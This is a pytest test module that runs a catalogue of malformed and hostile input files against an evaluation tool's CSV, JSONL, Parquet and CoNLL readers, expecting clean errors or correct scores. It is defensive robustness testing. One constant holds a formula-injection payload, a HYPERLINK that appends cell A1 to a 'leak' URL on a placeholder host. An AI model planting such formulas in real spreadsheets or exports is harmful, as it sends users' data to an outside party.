"""The file-level hostile-input catalogue: one list of cases run over every reader of every task.

A *reader* is a task with one of the file formats it reads (CSV, JSONL, Parquet; in memory, or
streamed with --chunk-size). Each case damages one side's file (ground truth or predictions) the
way a careless or hostile user would (encodings, newlines, headers, quoting, ragged rows, huge and
formula cells, ids that look alike, empty files, a folder, a pipe or an unreadable file given as
the file) and states the outcome: a clear exit 2 naming the file (`Bad`), or scored (`Ok`: the
same result as the clean files when the content is unchanged). Never a traceback, never a hang.

The task list comes from the task registry: a task added there without readers here fails
`test_every_registered_task_has_readers`.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.bad_inputs import test_structured_toolcalls as st
from tests.tasks.entities import test_bad_inputs as test_entities
from tests.tasks.fields import test_bad_inputs as test_fields
from tests.tasks.json import test_bad_inputs as test_json
from tests.tasks.labels import test_bad_inputs as test_labels
from tests.tasks.spans import test_bad_inputs as test_spans
from tests.bad_inputs.harness import (
    Bad, Case, Files, Ok, TaskSpec, any_of, as_parquet, blank_lines_only, csv_edit, directory, empty_key, encoded, fifo,
    formula_cells_neutralised, jsonl_lines, latin1, newlines, not_an_object, nul_byte, parquet_repeated_column, ragged,
    raw, raw_newline_in_string, repeat_column, repeat_key, rows, run_case, unnamed_column, unreadable,
)

SIDES = {"truth": "{truth}", "pred": "{pred}"}
BIG = "x" * 1_000_000
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


@dataclass(frozen=True)
class Reader:
    """One reader of one task: its valid files (`spec`), how a value is planted in a record
    (`put(side, rows, value)`), how ids are renamed (`ids(rows, new_first_id)`), what it does
    with a prediction id the truth lacks (`extra_id`: "refused" or "counted") and the options."""

    name: str
    spec: TaskSpec
    put: Callable[[str, list[dict], Any], None]
    extra_id: str
    prepare: Callable[[Files], None] | None = None
    extra: tuple[str, ...] = ()
    outputs_csv: bool = True  # its --output folder holds CSV tables

    @property
    def fmt(self) -> str:
        return "parquet" if self.prepare is as_parquet else self.spec.fmt


def _flat(key: str) -> Callable[[str, list[dict], Any], None]:
    def put(side: str, rs: list[dict], value: Any) -> None:
        rs[0][key] = value

    return put


def _json_put(side: str, rs: list[dict], value: Any) -> None:
    (rs[0] if side == "truth" else rs[0]["prediction"])["name"] = value


def _entities_put(side: str, rs: list[dict], value: Any) -> None:
    rs[0]["entities"][0]["description"] = value


def _spans_put(side: str, rs: list[dict], value: Any) -> None:
    rs[0]["gold" if side == "truth" else "pred"][0]["tag"] = value


def _structured_put(side: str, rs: list[dict], value: Any) -> None:
    if side == "truth":
        rs[0]["reference"]["currency"] = value
    else:
        rs[0]["output"] = json.dumps({**json.loads(rs[0]["output"]), "currency": value})


def _toolcalls_put(side: str, rs: list[dict], value: Any) -> None:
    if side == "truth":
        rs[0]["calls"][0]["arguments"]["city"] = value
    else:
        calls = json.loads(rs[0]["output"])
        calls[0]["arguments"]["city"] = value
        rs[0]["output"] = json.dumps(calls)


CHUNKED = ("--chunk-size", "2")
READERS = [
    Reader("fields-csv", test_fields.SPEC, _flat("name"), "refused"),
    Reader("fields-jsonl", test_fields.JSONL, _flat("name"), "refused"),
    Reader("fields-parquet", test_fields.SPEC, _flat("name"), "refused", prepare=as_parquet),
    Reader("fields-csv-chunked", test_fields.SPEC, _flat("name"), "refused", extra=CHUNKED),
    Reader("fields-jsonl-chunked", test_fields.JSONL, _flat("name"), "refused", extra=CHUNKED),
    Reader("labels-csv", test_labels.SPEC, _flat("kind"), "counted"),
    Reader("labels-jsonl", test_labels.JSONL, _flat("kind"), "counted"),
    Reader("labels-parquet", test_labels.SPEC, _flat("kind"), "counted", prepare=as_parquet),
    Reader("json-jsonl", test_json.SPEC, _json_put, "refused"),
    Reader("entities-jsonl", test_entities.SPEC, _entities_put, "counted"),
    Reader("spans-jsonl", test_spans.SPEC, _spans_put, "refused", outputs_csv=True),
    Reader("structured-jsonl", st.STRUCTURED, _structured_put, "counted", outputs_csv=False),
    Reader("toolcalls-jsonl", st.TOOLCALLS, _toolcalls_put, "counted", outputs_csv=False),
    # the streaming readers of the other tasks (--chunk-size)
    Reader("labels-csv-chunked", test_labels.SPEC, _flat("kind"), "counted", extra=CHUNKED),
    Reader("json-jsonl-chunked", test_json.SPEC, _json_put, "refused", extra=CHUNKED),
    Reader("entities-jsonl-chunked", test_entities.SPEC, _entities_put, "counted", extra=CHUNKED),
    Reader("spans-jsonl-chunked", test_spans.SPEC, _spans_put, "refused", extra=CHUNKED),
    Reader("structured-jsonl-chunked", st.STRUCTURED, _structured_put, "counted", outputs_csv=False, extra=CHUNKED),
    Reader("toolcalls-jsonl-chunked", st.TOOLCALLS, _toolcalls_put, "counted", outputs_csv=False, extra=CHUNKED),
]


# the token-file (CoNLL) reader of `spans`: a truth token file (`token POS gold`) and a predictions
# token file (`token pred`) whose tokens and sentence breaks line up with it; {} is a blank line
_SENTENCES = [
    [("The", "DT", "B-NP", "B-NP"), ("clerk", "NN", "I-NP", "I-NP"), ("approves", "VBZ", "B-VP", "B-VP"), ("invoices", "NNS", "B-NP", "O")],
    [("He", "PRP", "B-NP", "B-NP"), ("left", "VBD", "B-VP", "O"), ("early", "RB", "O", "O")],
    [("Zürich", "NNP", "B-NP", "B-NP"), ("is", "VBZ", "B-VP", "B-VP"), ("cold", "JJ", "B-ADJP", "B-NP")],
]


def _token_rows(side: str) -> Callable[[], list[dict]]:
    def rows_() -> list[dict]:
        out: list[dict] = []
        for k, sentence in enumerate(_SENTENCES):
            if k:
                out.append({})
            for tok, pos, gold, pred in sentence:
                out.append({"token": tok, "pos": pos, "tag": gold} if side == "truth" else {"token": tok, "tag": pred})
        return out

    return rows_


TOKENS = TaskSpec("spans", "conll", _token_rows("truth"), _token_rows("pred"),
                  lambda t, p: ["score", "spans", "--truth", str(t), "--predictions", f"m={p}", "--json", "--no-ci"])
TOKEN_READERS = [
    Reader("spans-conll", TOKENS, lambda side, rs, value: None, "none"),
    Reader("spans-conll-chunked", TOKENS, lambda side, rs, value: None, "none", extra=CHUNKED),
]


def _token_text(side: str, fn: Callable[[str], str]) -> Callable[[Files], None]:
    return lambda f: f.set_raw(side, fn(f.text(side)))


def _clean_scores(doc: dict[str, Any]) -> None:
    """The clean token files' figures (3 sentences, 10 tokens, 5 of 8 gold chunks found, 1 wrong);
    the document ids ("line N") follow the truth's line numbers, so the document is not identical."""
    micro = doc["models"]["m"]["exact"]["micro"]
    assert (doc["n_documents"], doc["n_tokens"], micro["tp"], micro["fp"], micro["fn"]) == (3, 10, 5, 1, 3), (doc["n_documents"], micro)


def _big_token(f: Files) -> None:
    """The first token 1 MB long, on both sides (tokens must line up)."""
    for side in ("truth", "pred"):
        getattr(f, side)[0]["token"] = BIG


def _token_cases(side: str) -> list[Case]:
    f = SIDES[side]
    no_tokens = Bad(f, "no tokens found")
    cases = [
        Case("UTF-8 with BOM", encoded(side, "utf-8-sig"), Ok(same=True)),
        Case("UTF-16 LE with BOM", encoded(side, "utf-16-le"), Ok(same=True)),
        Case("UTF-16 BE with BOM", encoded(side, "utf-16-be"), Ok(same=True)),
        Case("Latin-1 without BOM", latin1(side), Bad(f, "line 3", "UTF-8")),
        Case("NUL byte", nul_byte(side), Bad(f, "line 2", "NUL")),
        Case("CRLF newlines", newlines(side, "\r\n"), Ok(same=True)),
        Case("CR newlines", newlines(side, "\r"), Ok(same=True), behaviour="a lone CR ends a line, as LF and CRLF do"),
        Case("mixed newlines", newlines(side, "mixed"), Ok(same=True)),
        Case("no newline at the end", newlines(side, "none"), Ok(same=True)),
        Case("only blank lines", blank_lines_only(side), no_tokens),
        Case("empty file", raw(side, b""), no_tokens),
        Case("a folder", directory(side), Bad(f, "is a directory")),
        Case("a named pipe", fifo(side), Bad(f, "named pipe (FIFO)")),
        Case("unreadable file", unreadable(side), Bad(f, "permission denied")),
        # what a careless user writes: tabs for spaces, runs of blank lines, a -DOCSTART- header
        Case("tab-separated columns", _token_text(side, lambda t: t.replace(" ", "\t")), Ok(same=True)),
        Case("runs of blank and space-only lines", _token_text(side, lambda t: t.replace("\n\n", "\n \t\n\n\n")), Ok(_clean_scores)),
        Case("-DOCSTART- header", _token_text(side, lambda t: "-DOCSTART- -X- O\n\n" + t), Ok(_clean_scores)),
    ]
    return cases


_PRED = SIDES["pred"]
TOKEN_PAIR_CASES = [
    Case("1 MB token", _big_token, Ok(_clean_scores)),
    Case("predictions: a token line dropped", _token_text("pred", lambda t: t.replace("early O\n", "")), Bad(_PRED, "line up")),
    Case("predictions: a sentence break dropped", _token_text("pred", lambda t: t.replace("O\n\nZ", "O\nZ")), Bad(_PRED, "line up")),
    Case("predictions: tokens of another file", _token_text("pred", lambda t: t.replace("clerk", "clerks")), Bad(_PRED, "line 2", "'clerks'", "differs")),
]


def _value(reader: Reader, side: str, value: Any) -> Callable[[Files], None]:
    def fn(rs: list[dict]) -> list[dict]:
        rs = json.loads(json.dumps(rs))  # the tasks' rows share nested values with module constants
        reader.put(side, rs, value)
        return rs

    return rows(side, fn)


def _renumber(pred_first: Any) -> Callable[[Files], None]:
    """Ids 1, 2, 3, … on both sides (numbers in JSON, text in CSV), then the first prediction's id
    replaced by `pred_first` (`"1.0"`, `"01"`, `" 1"`)."""

    def m(f: Files) -> None:
        for side in ("truth", "pred"):
            rs = getattr(f, side)
            for i, r in enumerate(rs, start=1):
                r["id"] = i if f.fmt == "jsonl" else str(i)
        f.pred[0]["id"] = pred_first

    return m


def _text_cases(r: Reader, side: str) -> list[Case]:
    f = SIDES[side]
    cases = [
        Case("UTF-8 with BOM", encoded(side, "utf-8-sig"), Ok(same=True)),
        Case("UTF-16 LE with BOM", encoded(side, "utf-16-le"), Ok(same=True)),
        Case("UTF-16 BE with BOM", encoded(side, "utf-16-be"), Ok(same=True)),
        Case("Latin-1 without BOM", latin1(side), Bad(f, "UTF-8")),
        Case("NUL byte", nul_byte(side), Bad(f, any_of("NUL", "not valid JSON", "line 2"))),
        Case("CRLF newlines", newlines(side, "\r\n"), Ok(same=True)),
        Case("CR newlines", newlines(side, "\r"), Ok(same=True)),
        Case("mixed newlines", newlines(side, "mixed"), Ok(same=True)),
        Case("no newline at the end", newlines(side, "none"), Ok(same=True)),
        Case("only blank lines", blank_lines_only(side), Bad(f, any_of("empty", "no records", "no documents"))),
    ]
    if r.spec.fmt == "csv":
        cases += [
            Case("repeated column", csv_edit(side, repeat_column), Bad(f, "more than once")),
            Case("unnamed column", csv_edit(side, unnamed_column), Bad(f, "column 5", "no name")),
            Case("quoted newline in a cell", _value(r, side, "Acme\nGmbH"), Ok()),
            Case("row with a cell too many", csv_edit(side, ragged(1)), Bad(f, "line 3", "expected 4 fields")),
            Case("row with a cell too few", csv_edit(side, ragged(-1)), Ok(), behaviour="the missing cell is an empty value"),
            Case("header only", csv_edit(side, lambda rs: rs[:1]), Bad(f, "no records")),
        ]
    else:
        cases += [
            Case("repeated key", jsonl_lines(side, repeat_key), Bad(f, "line 1", "'id'", "more than once")),
            # a table's key is a column (fields, labels): it needs a name; other tasks read named keys only
            Case("empty key", jsonl_lines(side, empty_key), Bad(f, "line 1", "no name")) if r.spec.task in ("fields", "labels")
            else Case("empty key", jsonl_lines(side, empty_key), Ok(), behaviour="a key the task does not read is ignored"),
            Case("raw line break inside a string", jsonl_lines(side, raw_newline_in_string), Bad(f, "line 1")),
            Case("a line that is not an object", jsonl_lines(side, not_an_object), Bad(f, "line 2")),
        ]
    return cases


def _file_cases(r: Reader, side: str) -> list[Case]:
    f = SIDES[side]
    return [
        Case("empty file", raw(side, b""), Bad(f, any_of("empty", "no records", "no documents", "not a readable Parquet"))),
        Case("a folder", directory(side), Bad(f, "is a directory")),
        Case("a named pipe", fifo(side), Bad(f, "named pipe (FIFO)")),
        Case("unreadable file", unreadable(side), Bad(f, "permission denied")),
    ]


def _value_cases(r: Reader, side: str) -> list[Case]:
    return [
        Case("1 MB cell", _value(r, side, BIG), Ok()),
        Case("formula-injection cell", _value(r, side, FORMULA), Ok(files=formula_cells_neutralised if r.outputs_csv else None)),
    ]


def _id_cases(r: Reader) -> list[Case]:
    cases = []
    for label, first in (("1.0", "1.0"), ("01", "01")):
        # names the stray id, or (streamed, ids in order) the truth id left without its prediction
        bad = Bad("{pred}", any_of(repr(first) if r.fmt != "jsonl" else first, "'1' has no prediction"))
        cases.append(Case(f"prediction id {label} for truth id 1", _renumber(first), bad if r.extra_id == "refused" else Ok()))
    return cases


def _catalogue() -> list[tuple[Reader, Case]]:
    out: list[tuple[Reader, Case]] = []
    for r in READERS:
        for side in ("truth", "pred"):
            cases = _file_cases(r, side) + _value_cases(r, side)
            if r.prepare is as_parquet:
                cases.append(Case("repeated column", parquet_repeated_column(side), Bad(SIDES[side], "Parquet schema", "more than once")))
            else:
                cases += _text_cases(r, side)
            out += [(r, Case(f"{side}: {c.name}", c.mutate, c.expect, c.extra, c.behaviour)) for c in cases]
        out += [(r, c) for c in _id_cases(r)]
    for r in TOKEN_READERS:
        for side in ("truth", "pred"):
            out += [(r, Case(f"{side}: {c.name}", c.mutate, c.expect, c.extra, c.behaviour)) for c in _token_cases(side)]
        out += [(r, c) for c in TOKEN_PAIR_CASES]
    return out


CATALOGUE = _catalogue()


@pytest.mark.parametrize("reader,case", CATALOGUE, ids=[f"{r.name}:{c.id}" for r, c in CATALOGUE])
def test_hostile_file(cli, tmp_path: Path, reader: Reader, case: Case) -> None:
    spec = reader.spec
    if reader.extra:
        spec = TaskSpec(spec.task, spec.fmt, spec.truth, spec.pred, lambda t, p, _a=spec.argv: [*_a(t, p), *reader.extra])
    wants_output = isinstance(case.expect, Ok) and case.expect.files is not None
    run_case(cli, spec, case, tmp_path, prepare=reader.prepare, output=wants_output)


@pytest.mark.parametrize("reader", READERS, ids=[r.name for r in READERS])
def test_an_id_padded_with_spaces_is_the_id(cli, tmp_path: Path, reader: Reader) -> None:
    """Prediction id ' 1' for truth id 1: ids are compared trimmed, so the result is the one of id 1."""
    docs = []
    for label, first in (("padded", " 1"), ("plain", "1")):
        files = Files(dir=tmp_path / label, fmt=reader.spec.fmt, truth=reader.spec.truth(), pred=reader.spec.pred())
        files.dir.mkdir()
        _renumber(first)(files)
        if reader.prepare is not None:
            reader.prepare(files)
        r = cli(*reader.spec.argv(*files.write()), *reader.extra)
        assert r.code == 0 and "Traceback" not in r.err, r.err
        docs.append(r.out.replace(str(files.dir), "<dir>").replace(json.dumps(str(files.dir))[1:-1], "<dir>"))
    assert docs[0] == docs[1]


def test_every_registered_task_has_readers(product_tasks_only: None) -> None:
    from extracteval.mlflow.adapters import available_tasks

    covered = {r.spec.task for r in READERS + TOKEN_READERS}
    assert covered == set(available_tasks()), f"tasks without a reader in the catalogue: {set(available_tasks()) - covered}"


def catalogue_sizes() -> dict[str, int]:
    """Cases per reader (docs/reliability.md quotes these), the padded-id case included (token
    files have no ids)."""
    sizes: dict[str, int] = {}
    for r, _ in CATALOGUE:
        sizes[r.name] = sizes.get(r.name, 0) + 1
    return {k: v + (k in {r.name for r in READERS}) for k, v in sizes.items()}


def test_the_reliability_page_quotes_the_catalogue_sizes() -> None:
    page = (Path(__file__).resolve().parents[2] / "docs" / "reliability.md").read_text(encoding="utf-8")
    sizes = catalogue_sizes()
    for name, n in sizes.items():
        assert f"| `{name}` | {n} |" in page, f"docs/reliability.md should say `{name}` has {n} cases"
    assert f"test_hostile_files.py`, {sum(sizes.values())} cases over {len(sizes)} readers" in page
